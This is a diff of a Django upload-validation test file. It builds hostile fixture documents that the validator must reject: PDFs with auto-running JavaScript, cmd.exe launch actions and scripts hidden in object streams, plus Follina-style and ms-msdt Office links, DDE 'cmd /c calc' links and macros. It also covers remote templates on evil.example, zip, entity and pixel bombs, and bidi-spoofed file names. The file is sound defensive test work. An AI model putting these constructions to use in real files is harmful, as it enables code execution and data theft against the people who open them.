@@ -5,7 +5,11 @@ real upload view.
 """
 
 import io
+import os
+import shutil
 import struct
+import subprocess
+import tempfile
 import unicodedata
 import zipfile
 import zlib
@@ -15,9 +19,10 @@ import openpyxl
 import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
 from hypothesis import given
 from hypothesis import strategies as st
-from PIL import Image
+from PIL import Image, ImageFile
 
 from involve.core import uploads
 
@@ -51,6 +56,89 @@ def minimal_pdf(text: str = "Evidence of involvement") -> bytes:
         out += f"{offset:010d} 00000 n \n".encode()
     out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
     return bytes(out)
+
+
+def build_pdf(
+    objects: list[bytes], *, trailer: bytes = b"", compressed: dict[int, bytes] | None = None, **stream
+) -> bytes:
+    """A PDF from object bodies (object 1 is the catalog), with a classic cross-reference table.
+
+    With `compressed`, those objects ({number: body}) go into an object stream, as WeasyPrint and Word
+    write them, and a cross-reference stream says where each one is, as a reader needs. `stream` sets
+    the object stream's dictionary: filter (default FlateDecode, None for none), declared (/Type
+    /ObjStm, default True).
+    """
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number, body in enumerate(objects, start=1):
+        offsets[number] = len(out)
+        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
+    size = len(objects) + 1
+    if not compressed:
+        xref = len(out)
+        out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
+        for number in range(1, size):
+            out += f"{offsets[number]:010d} 00000 n \n".encode()
+        out += b"trailer\n<< /Size " + str(size).encode() + b" /Root 1 0 R " + trailer + b" >>\n"
+        return bytes(out + f"startxref\n{xref}\n%%EOF\n".encode())
+    # The object stream: "number offset" pairs, then the objects.
+    numbers = sorted(compressed)
+    header, body, index = b"", b"", {}
+    for i, number in enumerate(numbers):
+        header += f"{number} {len(body)} ".encode()
+        body += compressed[number] + b"\n"
+        index[number] = i
+    content = header + b"\n" + body
+    filter_name = stream.get("filter", b"FlateDecode")
+    encode = {b"FlateDecode": zlib.compress, b"ASCIIHexDecode": lambda b: b.hex().encode() + b">"}
+    data = encode[filter_name](content) if filter_name else content
+    objstm = max([len(objects), *numbers]) + 1
+    entries = b"/Type /ObjStm " if stream.get("declared", True) else b""
+    entries += f"/N {len(numbers)} /First {len(header) + 1} ".encode()
+    if filter_name:
+        entries += b"/Filter /" + filter_name + b" "
+    offsets[objstm] = len(out)
+    out += f"{objstm} 0 obj\n<< ".encode() + entries + f"/Length {len(data)} >>\nstream\n".encode()
+    out += data + b"\nendstream\nendobj\n"
+    # The cross-reference stream: type 1 (offset) for plain objects, type 2 (object stream, index) for the rest.
+    xref_number = max([objstm, *numbers]) + 1
+    offsets[xref_number] = len(out)
+    rows = b""
+    for number in range(xref_number + 1):
+        if number in index:
+            rows += struct.pack(">BIH", 2, objstm, index[number])
+        elif number in offsets:
+            rows += struct.pack(">BIH", 1, offsets[number], 0)
+        else:
+            rows += struct.pack(">BIH", 0, 0, 65535)
+    out += (
+        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] /Root 1 0 R ".encode()
+        + trailer
+        + f" /Length {len(rows)} >>\nstream\n".encode()
+    )
+    out += rows + b"\nendstream\nendobj\n"
+    return bytes(out + f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode())
+
+
+PAGES = [
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>",
+]
+
+
+def pdf_with_catalog(catalog_extra: bytes, *more: bytes, page_extra: bytes = b"") -> bytes:
+    """A one-page PDF whose catalog (object 1) has `catalog_extra`; `more` become objects 4, 5, …"""
+    page = PAGES[1].replace(b" >>", b" " + page_extra + b" >>") if page_extra else PAGES[1]
+    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", PAGES[0], page, *more])
+
+
+def weasyprint_pdf() -> bytes:
+    import weasyprint
+
+    return weasyprint.HTML(
+        string='<h1 id="top">Workshop</h1><p><a href="https://www.example.nhs.uk/JS/AA/Launch">Report</a> '
+        '<a href="#top">Back to the top</a></p><table><tr><td>42</td></tr></table>'
+    ).write_pdf()
 
 
 def docx_bytes(text: str = "Workshop notes") -> bytes:
@@ -234,6 +322,401 @@ def png_pixel_bomb() -> bytes:
     )
 
 
+def rezip(data: bytes, add: dict[str, bytes] | None = None, change=None) -> bytes:
+    """A copy of a ZIP container with parts added or replaced; change(name, bytes) may rewrite each part."""
+    add = dict(add or {})
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            body = add.pop(item.filename, None) or source.read(item)
+            target.writestr(item, change(item.filename, body) if change else body)
+        for name, body in add.items():
+            target.writestr(name, body)
+    return buffer.getvalue()
+
+
+RELS = b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def docx_with_relationship(
+    rel_type: str, target: str, external: bool = True, part="word/_rels/document.xml.rels", mode="External"
+):
+    """A Word document with one more relationship (in document.xml.rels unless `part` says otherwise)."""
+    mode = f' TargetMode="{mode}"' if external else ""
+    rel = f'<Relationship Id="rId99" Type="{OFFICE_REL}{rel_type}" Target="{target}"{mode}/>'.encode()
+
+    def change(name, body):
+        return body.replace(b"</Relationships>", rel + b"</Relationships>") if name == part else body
+
+    data = docx_bytes()
+    if part not in zipfile.ZipFile(io.BytesIO(data)).namelist():
+        return rezip(data, {part: RELS + rel + b"</Relationships>"})
+    return rezip(data, change=change)
+
+
+def with_content_type(data: bytes, part: str, content_type: str) -> bytes:
+    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()
+
+    def change(name, body):
+        return body.replace(b"</Types>", override + b"</Types>") if name == "[Content_Types].xml" else body
+
+    return rezip(data, change=change)
+
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
+
+
+def odf_with(
+    content: bytes = b"", mimetype: str = uploads.ODT.content_type, parts=None, manifest: bytes = b""
+) -> bytes:
+    """An OpenDocument file whose content.xml body holds `content`, with extra parts and manifest entries."""
+    entries = {
+        "mimetype": mimetype.encode(),
+        "content.xml": b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
+        b'xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:'
+        b'names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts/>'
+        b"<office:body><office:text>" + content + b"</office:text></office:body></office:document-content>",
+        "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
+        b'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="'
+        + mimetype.encode()
+        + b'"/>'
+        + manifest
+        + b"</manifest:manifest>",
+        **(parts or {}),
+    }
+    return _zip(entries, stored_first="mimetype")
+
+
+def embedded_package(inner: bytes, name="word/embeddings/Microsoft_Excel_Worksheet.xlsx") -> bytes:
+    """A Word document with a package under word/embeddings/, as a chart keeps its workbook."""
+    return rezip(docx_bytes(), {name: inner})
+
+
+def png_header_only(width: int, height: int) -> bytes:
+    """A PNG of a few dozen bytes whose header claims width × height pixels."""
+
+    def chunk(kind, body):
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
+
+
+def jpeg_claiming(width: int, height: int) -> bytes:
+    """A small real JPEG whose frame header (SOF0) is rewritten to claim width × height pixels."""
+    data = bytearray(image_bytes("JPEG"))
+    sof = data.find(b"\xff\xc0")
+    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
+    return bytes(data)
+
+
+def script_annotation(number: int) -> bytes:
+    """Object `number`: a link that runs a script when clicked."""
+    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+    return f"{number} 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ".encode() + action + b" >> endobj"
+
+
+def link_action(action: bytes) -> bytes:
+    """A PDF whose page has a link that does `action` when clicked."""
+    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A " + action + b" >>"
+    return pdf_with_catalog(b"", annotation, page_extra=b"/Annots [4 0 R]")
+
+
+def reachable(pdf: bytes, number: int) -> bytes:
+    """Add an update to the cross-reference table that points object `number` at where its text is,
+    wherever that is (inside a string, a comment or a stream): a reader jumps straight there."""
+    previous = int(pdf.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
+    offset = pdf.index(f"{number} 0 obj ".encode())
+    xref = len(pdf)
+    update = (
+        f"xref\n{number} 1\n{offset:010d} 00000 n \ntrailer\n<< /Size {number + 1} /Root 1 0 R /Prev {previous} >>\n"
+        f"startxref\n{xref}\n%%EOF\n"
+    )
+    return pdf + update.encode()
+
+
+JS = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
+# The whole document in an object stream, the script included.
+COMPRESSED_JS = {
+    1: b"<< /Type /Catalog /Pages 2 0 R >>",
+    2: PAGES[0],
+    3: PAGES[1].replace(b" >>", b" /AA << /O 4 0 R >> >>"),
+    4: JS,
+}
+
+
+def hostile_pdfs() -> dict[str, tuple[str, bytes]]:
+    annot = b"/Annots [4 0 R]"
+    return {
+        "pdf OpenAction JavaScript": ("report.pdf", pdf_with_catalog(b"/OpenAction " + JS)),
+        "pdf OpenAction by reference": ("report.pdf", pdf_with_catalog(b"/OpenAction 4 0 R", JS)),
+        "pdf OpenAction opening a web address": (
+            "report.pdf",
+            pdf_with_catalog(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
+        ),
+        "pdf OpenAction by reference to a print action": (
+            "report.pdf",
+            pdf_with_catalog(b"/OpenAction 4 0 R", b"<< /S /Named /N /Print >>"),
+        ),
+        "pdf OpenAction GoTo with another action after it": (
+            "report.pdf",
+            pdf_with_catalog(
+                b"/OpenAction 4 0 R", b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://e.example/) >> >>"
+            ),
+        ),
+        "pdf JavaScript name tree": (
+            "report.pdf",
+            pdf_with_catalog(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>", JS.replace(b"/S /JavaScript ", b"")),
+        ),
+        "pdf page AA": ("report.pdf", pdf_with_catalog(b"", JS, page_extra=b"/AA << /O 4 0 R >>")),
+        "pdf Launch": (
+            "report.pdf",
+            pdf_with_catalog(
+                b"",
+                b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (cmd.exe) >> >>",
+                page_extra=annot,
+            ),
+        ),
+        "pdf EmbeddedFile": (
+            "report.pdf",
+            pdf_with_catalog(
+                b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] "
+                b">> >>",
+                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+            ),
+        ),
+        "pdf RichMedia": (
+            "report.pdf",
+            pdf_with_catalog(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>", page_extra=annot),
+        ),
+        "pdf SubmitForm": ("report.pdf", link_action(b"<< /S /SubmitForm /F (https://evil.example/) >>")),
+        "pdf ImportData": ("report.pdf", link_action(b"<< /S /ImportData /F (x.fdf) >>")),
+        "pdf GoToR": ("report.pdf", link_action(b"<< /S /GoToR /F (\\\\evil\\x.pdf) /D [0 /Fit] >>")),
+        "pdf XFA form": ("report.pdf", pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"(<xdp/>)")),
+        "pdf name escapes /J#61vaScript": (
+            "report.pdf",
+            link_action(b"<< /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>"),
+        ),
+        "pdf JavaScript in a compressed object stream": ("report.pdf", build_pdf([], compressed=COMPRESSED_JS)),
+        "pdf object stream without /Type": ("report.pdf", build_pdf([], compressed=COMPRESSED_JS, declared=False)),
+        "pdf object stream in ASCIIHex (not read)": (
+            "report.pdf",
+            build_pdf([], compressed=COMPRESSED_JS, filter=b"ASCIIHexDecode"),
+        ),
+        "pdf object hidden in a string": (
+            "report.pdf",
+            reachable(
+                pdf_with_catalog(b"", b"(cover " + script_annotation(6) + b")", page_extra=b"/Annots [6 0 R]"), 6
+            ),
+        ),
+        "pdf object hidden in a comment": (
+            "report.pdf",
+            reachable(pdf_with_catalog(b"", b"null % " + script_annotation(6), page_extra=b"/Annots [6 0 R]"), 6),
+        ),
+        "pdf object hidden in another stream's data": (
+            "report.pdf",
+            reachable(
+                pdf_with_catalog(
+                    b"",
+                    b"<< /Length 60 >>\nstream\n" + script_annotation(6).ljust(60) + b"\nendstream",
+                    page_extra=b"/Annots [6 0 R]",
+                ),
+                6,
+            ),
+        ),
+        "pdf encrypted": (
+            "report.pdf",
+            pdf_with_catalog(b"").replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 >>"),
+        ),
+    }
+
+
+def hostile_office_files() -> dict[str, tuple[str, bytes]]:
+    script = (
+        b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
+        b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
+    )
+    return {
+        "odt with Basic macros": (
+            "minutes.odt",
+            odf_with(parts={"Basic/script-lc.xml": b"<x/>", "Basic/Standard/Module1.xml": b"<x/>"}),
+        ),
+        "ods with a Scripts folder": (
+            "attendance.ods",
+            odf_with(
+                mimetype=uploads.ODS.content_type, parts={"Scripts/python/run.py": b"import os; os.system('calc')"}
+            ),
+        ),
+        "odt with a macro only in the manifest": (
+            "minutes.odt",
+            odf_with(
+                manifest=b'<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" '
+                b'manifest:media-type="text/xml"/>'
+            ),
+        ),
+        "odt with office:event-listeners": (
+            "minutes.odt",
+            odf_with(b"<office:event-listeners>" + script + b"</office:event-listeners>"),
+        ),
+        "ods with an event listener under another prefix": (
+            "attendance.ods",
+            odf_with(
+                b'<ev:event-listener xmlns:ev="urn:oasis:names:tc:opendocument:xmlns:script:1.0" ev:event-name="x"/>',
+                mimetype=uploads.ODS.content_type,
+            ),
+        ),
+        "odt with a vnd.sun.star.script: link": (
+            "minutes.odt",
+            odf_with(
+                b'<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic">'
+                b"Open</text:a></text:p>"
+            ),
+        ),
+        "odt with an escaped macro link": (
+            "minutes.odt",
+            odf_with(b'<text:p><text:a xlink:href="vnd.sun.star.scr&#105;pt:Standard.M.Main">Open</text:a></text:p>'),
+        ),
+        "odt with inline text:script": (
+            "minutes.odt",
+            odf_with(b'<text:script script:language="Basic">Shell("calc")</text:script>'),
+        ),
+        "odt with an OLE object": (
+            "minutes.odt",
+            odf_with(
+                parts={"Object 1": OLE},
+                manifest=b'<manifest:file-entry manifest:full-path="Object 1" '
+                b'manifest:media-type="application/vnd.sun.star.oleobject"/>',
+            ),
+        ),
+        "odt encrypted in its manifest": (
+            "minutes.odt",
+            odf_with(
+                manifest=b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
+                b'<manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>'
+            ),
+        ),
+        "odt with an XML entity bomb": (
+            "minutes.odt",
+            odf_with(
+                parts={
+                    "styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
+                    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
+                }
+            ),
+        ),
+        "docx with a remote attachedTemplate": (
+            "letter.docx",
+            docx_with_relationship(
+                "attachedTemplate", "https://evil.example/template.dotm", part="word/_rels/settings.xml.rels"
+            ),
+        ),
+        "docx with an attachedTemplate on another server": (
+            "letter.docx",
+            docx_with_relationship(
+                "attachedTemplate", "file://evil.example/share/t.dotm", part="word/_rels/settings.xml.rels"
+            ),
+        ),
+        "docx with an external OLE object (Follina)": (
+            "letter.docx",
+            docx_with_relationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
+        ),
+        "docx with an external picture": (
+            "letter.docx",
+            docx_with_relationship("image", "file://evil.example/share/pixel.png"),
+        ),
+        "docx with an external relationship written with entities": (
+            "letter.docx",
+            docx_with_relationship("frame", "https://evil.example/", mode="Extern&#97;l"),
+        ),
+        "docx hyperlink to ms-msdt:": ("letter.docx", docx_with_relationship("hyperlink", "ms-msdt:/id PCWDiagnostic")),
+        "docx with an embedded OLE object": (
+            "letter.docx",
+            with_content_type(
+                rezip(docx_bytes(), {"word/embeddings/oleObject1.bin": OLE}),
+                "word/embeddings/oleObject1.bin",
+                "application/vnd.openxmlformats-officedocument.oleObject",
+            ),
+        ),
+        "docx with an OLE object under a picture's name": (
+            "letter.docx",
+            rezip(docx_bytes(), {"word/media/image9.png": OLE}),
+        ),
+        "docx with an oleObject relationship": (
+            "letter.docx",
+            docx_with_relationship("oleObject", "embeddings/x.bin", external=False),
+        ),
+        "docx with ActiveX": (
+            "letter.docx",
+            rezip(docx_bytes(), {"word/activeX/activeX1.xml": b"<ax/>", "word/activeX/activeX1.bin": b"\0" * 64}),
+        ),
+        "docx declaring a macro-enabled main part": (
+            "letter.docx",
+            with_content_type(
+                docx_bytes(), "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
+            ),
+        ),
+        "xlsx with links to other workbooks": (
+            "survey.xlsx",
+            rezip(
+                xlsx_bytes(),
+                {
+                    "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" '
+                    b'ddeTopic="/c calc"/></externalLink>'
+                },
+            ),
+        ),
+        "pptx with an external OLE object": (
+            "slides.pptx",
+            rezip(
+                pptx_bytes(),
+                {
+                    "ppt/_rels/presentation.xml.rels": RELS
+                    + f'<Relationship Id="rId1" Type="{OFFICE_REL}oleObject" Target="https://evil.example/x" '
+                    'TargetMode="External"/></Relationships>'.encode()
+                },
+            ),
+        ),
+        "docx with a zip bomb inside its embeddings": ("letter.docx", embedded_package(zip_bomb_ratio())),
+        "docx with macros inside its embedded workbook": (
+            "letter.docx",
+            embedded_package(docx_with_macros(), "word/embeddings/x.docx"),
+        ),
+        "docx with a plain zip inside": (
+            "letter.docx",
+            embedded_package(_zip({"payload.exe": b"MZ"}), "word/embeddings/x.zip"),
+        ),
+        "docx with a zip under media": ("letter.docx", rezip(docx_bytes(), {"word/media/image1.png": xlsx_bytes()})),
+        "docx with a package two levels deep": (
+            "letter.docx",
+            embedded_package(embedded_package(xlsx_bytes()), "word/embeddings/inner.docx"),
+        ),
+    }
+
+
+def hostile_images() -> dict[str, tuple[str, bytes]]:
+    return {
+        "png claiming 100,000 x 100,000 pixels": ("huge.png", png_header_only(100_000, 100_000)),
+        "png claiming 8,000 x 8,000 pixels (under Pillow's own limit)": ("big.png", png_header_only(8_000, 8_000)),
+        "jpeg claiming 65,535 x 65,535 pixels": ("huge.jpg", jpeg_claiming(65_535, 65_535)),
+    }
+
+
+def bidi_named_files() -> dict[str, tuple[str, bytes]]:
+    """Good content under names with direction controls: check_upload refuses them. (Through a web form
+    they never get that far: Django's multipart parser drops unprintable characters from file names,
+    so the name stored is already plain; see test_a_spoofed_name_sent_through_the_page_arrives_plain.)"""
+    pdf = minimal_pdf()
+    return {
+        "right-to-left override in a pdf's name": ("report\u202etxt.pdf", pdf),
+        "right-to-left override, exe made to look like a pdf": ("invoice\u202efdp.pdf", pdf),
+        "isolate controls in the name": ("report\u2067fdp\u2069.pdf", pdf),
+        "right-to-left mark in the name": ("report\u200f.pdf", pdf),
+        "arabic letter mark in the name": ("report\u061c.pdf", pdf),
+        "override written as an HTML entity": ("invoice&#8238;fdp.pdf", pdf),
+    }
+
+
 def malicious_files(max_bytes: int) -> dict[str, tuple[str, bytes]]:
     """name → (file name, bytes). Every one must be rejected; none may be stored."""
     jpeg = image_bytes("JPEG")
@@ -274,6 +757,9 @@ def malicious_files(max_bytes: int) -> dict[str, tuple[str, bytes]]:
         "javascript as .txt": ("app.txt", b"<script src=https://evil.example/x.js></script>"),
         "path traversal name with html": ("../../x.pdf", HTML),
         "nul in name with html": ("report.pdf\x00.html", HTML),
+        **hostile_pdfs(),
+        **hostile_office_files(),
+        **hostile_images(),
     }
 
 
@@ -284,7 +770,6 @@ HOSTILE_NAMES = {
     "report\x00.pdf": "report.pdf",
     "re\x07po\x1brt.pdf": "report.pdf",
     ".hidden.pdf": "hidden.pdf",
-    "minutes\u202etxt.pdf": "minutestxt.pdf",
     "a" * 300 + ".pdf": "a" * (uploads.NAME_MAX_LENGTH - 4) + ".pdf",
     'what?<is>"this"|*.pdf': "what__is__this___.pdf",
 }
@@ -335,6 +820,36 @@ def test_images_lose_their_metadata():
 
 
 MALICIOUS = malicious_files(max_bytes=1 * MB)
+BIDI_NAMED = bidi_named_files()
+
+
+@pytest.mark.parametrize("key", list(BIDI_NAMED))
+def test_a_name_with_direction_controls_is_refused(key):
+    name, data = BIDI_NAMED[key]
+    with pytest.raises(ValidationError, match="hidden characters that change the direction of text") as excinfo:
+        uploads.check_upload(upload(name, data))
+    assert excinfo.value.code == "name"
+
+
+def test_a_spoofed_name_sent_through_the_page_arrives_plain(cast, client_for):
+    from involve.engagement.models import Evidence
+
+    from ..engagement.factories import make_decision
+
+    decision = make_decision(cast.org_a)
+    response = client_for(cast.a_engagement_lead).post(
+        reverse("engagement:evidence_add_file_decision", args=[decision.pk]),
+        {
+            "title": "Spoofed name",
+            "dated-day": "1",
+            "dated-month": "2",
+            "dated-year": "2025",
+            "file": SimpleUploadedFile("invoice\u202efdp.pdf", minimal_pdf()),
+        },
+    )
+    assert response.status_code == 302
+    # Django's parser has already dropped the override: what people see is the name as it really is.
+    assert Evidence.objects.get(title="Spoofed name").original_name == "invoicefdp.pdf"
 
 
 @pytest.mark.parametrize("key", list(MALICIOUS))
@@ -481,3 +996,284 @@ def test_sanitised_names_from_path_pieces(pieces):
 def test_ordinary_names_keep_their_extension(stem):
     clean = uploads.sanitise_filename(f"{stem}.pdf")
     assert clean.endswith(".pdf") or clean == "pdf"
+
+
+# ---------------------------------------------------------------------------------------------
+# Active content: what must still be accepted, and proof the hostile fixtures are real
+
+
+def libreoffice_style_pdf() -> bytes:
+    """As LibreOffice writes a PDF: stream lengths in separate objects, and an OpenAction that is only
+    a destination (open at page 1), which runs nothing."""
+    stream = b"BT /F1 12 Tf 20 100 Td (Minutes) Tj ET"
+    return build_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] /Lang (en-GB) >>",
+            PAGES[0],
+            PAGES[1].replace(b" >>", b" /Contents 4 0 R >>"),
+            b"<< /Length 5 0 R >>\nstream\n" + stream + b"\nendstream",
+            str(len(stream)).encode(),
+        ]
+    )
+
+
+def pdf_with_colour_profile() -> bytes:
+    """A PDF with an ICC colour profile: a compressed binary stream with /N, like an object stream's."""
+    profile = bytearray(os.urandom(3000))
+    profile[36:40] = b"acsp"
+    profile[100:104] = b"/JS "  # binary that happens to look like a name must not count
+    data = zlib.compress(bytes(profile))
+    return pdf_with_catalog(
+        b"/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFA1 /DestOutputProfile 4 0 R >>]",
+        b"<< /N 3 /Filter /FlateDecode /Length " + str(len(data)).encode() + b" >>\nstream\n" + data + b"\nendstream",
+    )
+
+
+def docx_with_hyperlink_and_local_template() -> bytes:
+    from docx.opc.constants import RELATIONSHIP_TYPE
+
+    document = docx.Document()
+    document.add_paragraph("See the report")
+    document.part.relate_to("https://www.example.nhs.uk/report", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
+    document.part.relate_to("mailto:engagement@example.nhs.uk", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
+    document.part.relate_to("file:///S:/Governance/Board.docx", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    # The template Word records a document was made from, on the author's own drive.
+    return rezip(
+        buffer.getvalue(),
+        {
+            "word/_rels/settings.xml.rels": RELS
+            + f'<Relationship Id="rId1" Type="{OFFICE_REL}attachedTemplate" Target="file:///C:/Users/alex/AppData/'
+            'Roaming/Microsoft/Templates/Normal.dotm" TargetMode="External"/></Relationships>'.encode()
+        },
+    )
+
+
+def accepted_active_lookalikes() -> dict[str, tuple[str, bytes]]:
+    """Ordinary files that have something in common with the hostile ones, and must be kept."""
+    return {
+        "weasyprint pdf with links and an object stream": ("report.pdf", weasyprint_pdf()),
+        "libreoffice-style pdf": ("minutes.pdf", libreoffice_style_pdf()),
+        "pdf with a colour profile": ("poster.pdf", pdf_with_colour_profile()),
+        "latex-style pdf opening at page 1 through a GoTo action": (
+            "paper.pdf",
+            pdf_with_catalog(b"/OpenAction 4 0 R", b"<< /D [3 0 R /Fit] /S /GoTo >>"),
+        ),
+        "docx with links and a template on the author's drive": (
+            "letter.docx",
+            docx_with_hyperlink_and_local_template(),
+        ),
+        "docx with a chart's workbook": ("report.docx", embedded_package(xlsx_bytes())),
+        "odt with an empty office:scripts and a web link": (
+            "minutes.odt",
+            odf_with(b'<text:p><text:a xlink:href="https://www.example.nhs.uk/">Report</text:a></text:p>'),
+        ),
+    }
+
+
+@pytest.mark.parametrize("key", list(accepted_active_lookalikes()))
+def test_ordinary_files_like_the_hostile_ones_are_kept(key):
+    name, data = accepted_active_lookalikes()[key]
+    checked = uploads.check_upload(upload(name, data))
+    assert checked.original_name == name
+
+
+def test_our_own_cover_sheet_pdf_and_docx_are_accepted(cast):
+    from involve.engagement import coversheet
+
+    from ..engagement.factories import make_decision
+
+    sheet = coversheet.build_cover_sheet(make_decision(cast.org_a))
+    assert uploads.check_upload(upload("cover.pdf", coversheet.render_pdf(sheet))).kind is uploads.PDF
+    assert uploads.check_upload(upload("cover.docx", coversheet.render_docx(sheet))).kind is uploads.DOCX
+
+
+def _pdfinfo_js(data: bytes) -> str:
+    if not shutil.which("pdfinfo"):
+        pytest.fail("pdfinfo is missing: apt-get install -y poppler-utils")
+    with tempfile.NamedTemporaryFile(suffix=".pdf") as handle:
+        handle.write(data)
+        handle.flush()
+        return subprocess.run(["pdfinfo", "-js", handle.name], capture_output=True, text=True, check=True).stdout
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "pdf page AA",
+        "pdf name escapes /J#61vaScript",
+        "pdf JavaScript in a compressed object stream",
+        "pdf object stream without /Type",
+        "pdf object stream in ASCIIHex (not read)",
+        "pdf object hidden in a string",
+        "pdf object hidden in a comment",
+        "pdf object hidden in another stream's data",
+    ],
+)
+def test_the_hidden_scripts_are_real_a_pdf_reader_finds_them(key):
+    # Poppler finds the script in each fixture, so each is a hiding place a reader honours.
+    assert "app.alert" in _pdfinfo_js(MALICIOUS[key][1])
+
+
+@pytest.mark.parametrize(
+    ("key", "expected"),
+    [
+        ("pdf OpenAction JavaScript", "actions that run by themselves"),
+        ("pdf JavaScript name tree", "The PDF contains scripts"),
+        ("pdf Launch", "starts other programs"),
+        ("pdf EmbeddedFile", "files hidden inside it"),
+        ("pdf SubmitForm", "sends information elsewhere"),
+        ("pdf name escapes /J#61vaScript", "The PDF contains scripts"),
+        ("pdf JavaScript in a compressed object stream", "actions that run by themselves"),
+        ("pdf object stream without /Type", "actions that run by themselves"),
+        ("pdf object stream in ASCIIHex (not read)", "cannot check what is inside this PDF"),
+        ("pdf object hidden in a string", "cannot check what is inside this PDF"),
+        ("pdf object hidden in another stream's data", "cannot check what is inside this PDF"),
+        ("pdf encrypted", "protected (encrypted)"),
+        ("odt with Basic macros", "macros"),
+        ("ods with an event listener under another prefix", "macros"),
+        ("odt with an escaped macro link", "macros"),
+        ("odt encrypted in its manifest", "password"),
+        ("odt with an XML entity bomb", "cannot be opened"),
+        ("docx with a remote attachedTemplate", "template stored on another computer or website"),
+        ("docx with an external relationship written with entities", "stored elsewhere"),
+        ("docx with an external OLE object (Follina)", "embedded object"),
+        ("docx hyperlink to ms-msdt:", "a link that starts a program (ms-msdt:)"),
+        ("docx with ActiveX", "ActiveX"),
+        ("xlsx with links to other workbooks", "other workbooks"),
+        ("docx with a zip bomb inside its embeddings", "zip bomb"),
+        ("docx with macros inside its embedded workbook", "macros"),
+        ("docx with a package two levels deep", "packed inside it"),
+        ("png claiming 100,000 x 100,000 pixels", "million pixels"),
+        ("png claiming 8,000 x 8,000 pixels (under Pillow's own limit)", "8,000 × 8,000 pixels"),
+        ("jpeg claiming 65,535 x 65,535 pixels", "million pixels"),
+    ],
+)
+def test_active_content_messages_say_what_is_wrong(key, expected):
+    name, data = MALICIOUS[key]
+    with pytest.raises(ValidationError) as excinfo:
+        uploads.check_upload(upload(name, data), max_bytes=1 * MB)
+    assert expected in excinfo.value.messages[0]
+
+
+def test_a_pdf_object_stream_is_inflated_only_within_the_budget(monkeypatch):
+    data = build_pdf([], compressed={1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES[0], 3: PAGES[1]})
+    assert uploads.check_upload(upload("a.pdf", data))
+    monkeypatch.setattr(uploads, "PDF_MAX_INFLATED_BYTES", 50)
